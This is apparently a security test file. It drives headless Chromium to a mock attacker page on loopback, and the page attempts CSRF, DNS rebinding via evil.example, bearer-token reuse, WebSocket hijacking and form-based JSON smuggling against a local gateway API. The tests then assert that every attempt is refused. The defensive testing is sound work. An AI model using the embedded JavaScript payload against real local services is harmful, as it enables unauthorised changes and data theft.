"""A web page in the browser of the gateway's own person, in a real Chromium.

The page comes from an attacker's server on loopback, and tries all that a page can do to another
origin. It is tried twice: in the browser as it is, and in one told to let pages read every answer,
so that what is refused is the gateway's doing and not the browser's.
"""

from __future__ import annotations

import contextlib
import json
import os
import queue
import shutil
import signal
import subprocess
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from ..conftest import town

CHROMIUM = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
FLAGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--disable-extensions",
    "--disable-dev-shm-usage",
]
WAIT = 60  # seconds; a browser needs two or three to start

pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="Chromium is not installed: apt install chromium")

PAGE = """<!DOCTYPE html><title>cats</title><iframe name="frame"></iframe><script>
const own = "http://127.0.0.1:PORT", rebound = "http://evil.example:PORT", local = "http://localhost:PORT";
const share = JSON.stringify({folder: "FOLDER", to: "members", verb: "read"});
const bearer = {Authorization: "Bearer SECRET"};
const got = {};
async function attempt(name, url, options) {
  try {
    const answer = await fetch(url, options);
    got[name] = {status: answer.status, type: answer.type, body: await answer.text()};
  } catch (error) { got[name] = {error: error.name}; }
}
function element(name, tag, url) {
  return new Promise(done => {
    const made = document.createElement(tag);
    made.onload = () => { got[name] = {loaded: true}; done(); };
    made.onerror = () => { got[name] = {loaded: false}; done(); };
    made.src = url; document.body.append(made);
  });
}
function socket(name, url) {
  return new Promise(done => {
    const made = new WebSocket(url);
    made.onopen = () => { got[name] = {opened: true}; done(); };
    made.onerror = () => { got[name] = {opened: false}; done(); };
  });
}
function form(name, url) {
  return new Promise(done => {
    const made = document.createElement("form");
    made.method = "post"; made.action = url; made.enctype = "text/plain"; made.target = "frame";
    const field = document.createElement("input");
    field.name = '{"minutes": 10, "uses": 1, "more": "'; field.value = '"}';
    made.append(field); document.body.append(made);
    document.querySelector("iframe").onload = () => { got[name] = {sent: true}; done(); };
    made.submit();
  });
}
(async () => {
  await attempt("simple", own + "/api/status");
  await attempt("with cookies", own + "/api/members", {credentials: "include"});
  await attempt("posted unseen", own + "/api/invitations", {method: "POST", mode: "no-cors", body: "{}"});
  await attempt("shared unseen", own + "/api/shares", {method: "POST", mode: "no-cors", body: share});
  await attempt("with the secret", own + "/api/invitations", {method: "POST", headers: bearer, body: "{}"});
  await attempt("to localhost", local + "/api/shares", {method: "POST", headers: bearer, body: share});
  await attempt("removed", own + "/api/members/tower", {method: "DELETE", headers: bearer});
  await attempt("rebound", rebound + "/api/status", {headers: bearer});
  await attempt("rebound post", rebound + "/api/invitations", {method: "POST", mode: "no-cors", body: "{}"});
  await socket("socket", "ws://127.0.0.1:PORT/jobs/1/events");
  await socket("rebound socket", "ws://evil.example:PORT/jobs/1/events");
  await element("script", "script", own + "/api/status");
  await element("image", "img", own + "/api/status");
  await form("form", own + "/api/invitations");
  got.beacon = {sent: navigator.sendBeacon(own + "/api/invitations", "{}")};
  await fetch("/report", {method: "POST", body: JSON.stringify(got)});
})();
</script>"""


@pytest.fixture(scope="module")
def tower(tmp_path_factory):
    with town(tmp_path_factory.mktemp("casa")) as make:
        made = make("tower", "ann")
        made.create("casa")
        yield made


class Attacker:
    """The page's server."""

    def __init__(self, page: str) -> None:
        self.reports: queue.Queue[dict] = queue.Queue()
        attacker = self

        class Answers(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                self._say(page.encode())

            def do_POST(self) -> None:
                attacker.reports.put(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
                self._say(b"")

            def _say(self, body: bytes) -> None:
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *_: object) -> None:
                pass

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Answers)
        self.port = self._server.server_port

    def __enter__(self) -> Attacker:
        threading.Thread(target=self._server.serve_forever, daemon=True).start()
        return self

    def __exit__(self, *_: object) -> None:
        self._server.shutdown()
        self._server.server_close()


def browser(folder, *words):
    command = [CHROMIUM, *FLAGS, f"--user-data-dir={folder}", "--host-resolver-rules=MAP evil.example 127.0.0.1"]
    return subprocess.Popen(
        [*command, *words],
        stdin=subprocess.DEVNULL,
        stdout=subprocess.PIPE,
        stderr=subprocess.DEVNULL,
        env={**os.environ, "HOME": str(folder)},
        start_new_session=True,
    )


def ended(process):
    """With all the processes that it started."""
    with contextlib.suppress(ProcessLookupError):
        os.killpg(process.pid, signal.SIGKILL)
    process.wait()


def visit(tower, folder, *words):
    """What the page reports that it got."""
    card = tower.home.gateway()
    page = PAGE.replace("PORT", card.url.rpartition(":")[2]).replace("FOLDER", str(tower.home.folder.parent))
    with Attacker(page.replace("SECRET", card.secret)) as attacker:
        process = browser(folder, *words, f"http://evil.example:{attacker.port}/")
        try:
            return attacker.reports.get(timeout=WAIT)
        except queue.Empty:
            raise AssertionError("the page did not report") from None
        finally:
            ended(process)


def owned(tower):
    """All that a page could have changed."""
    return tower.net.status(), tower.net.members(), tower.net.rules(), tower.home.audit.read_bytes()


def test_a_web_page_reads_nothing_and_changes_nothing(tower, tmp_path):
    before = owned(tower)
    got = visit(tower, tmp_path)
    assert owned(tower) == before
    blind = {"status": 0, "type": "opaque", "body": ""}
    for name in ("posted unseen", "shared unseen", "rebound post"):
        assert got.pop(name) == blind, name
    assert got.pop("beacon") == got.pop("form") == {"sent": True}, "they left, and came to nothing"
    for name in ("socket", "rebound socket"):
        assert got.pop(name) == {"opened": False}
    for name in ("script", "image"):
        assert got.pop(name) == {"loaded": False}
    assert len(got) >= 6
    assert all(answer == {"error": "TypeError"} for answer in got.values()), got


def test_a_web_page_is_refused_by_the_gateway_itself(tower, tmp_path):
    """In a browser that keeps no origin from another, even a page that knows the secret."""
    before = owned(tower)
    got = visit(tower, tmp_path, "--disable-web-security")
    assert owned(tower) == before
    answers = {name: answer for name, answer in got.items() if "status" in answer}
    assert {"simple", "with the secret", "to localhost", "removed", "rebound"} <= answers.keys()
    for name, answer in answers.items():
        assert answer["status"] in {401, 403}, (name, answer)
        assert not {"casa", "tower", "ann"}.intersection(answer["body"].replace(".", " ").split()), name
    assert answers["with the secret"]["status"] == 403, "by its origin"
    assert answers["rebound"]["status"] == 403, "by its host"
    assert got["socket"] == got["rebound socket"] == {"opened": False}


def test_a_page_that_was_rebound_to_loopback_finds_nothing_there(tower, tmp_path):
    """The attacker's name, now this computer: what is shown there is what a script of that origin could read."""
    port = tower.home.gateway().url.rpartition(":")[2]
    process = browser(tmp_path, "--dump-dom", f"http://evil.example:{port}/api/status")
    try:
        shown = process.communicate(timeout=WAIT)[0].decode()
    finally:
        ended(process)
    assert "answers only programs of this computer" in shown
    assert not {"casa", "ann"}.intersection(shown.replace(".", " ").replace('"', " ").split())
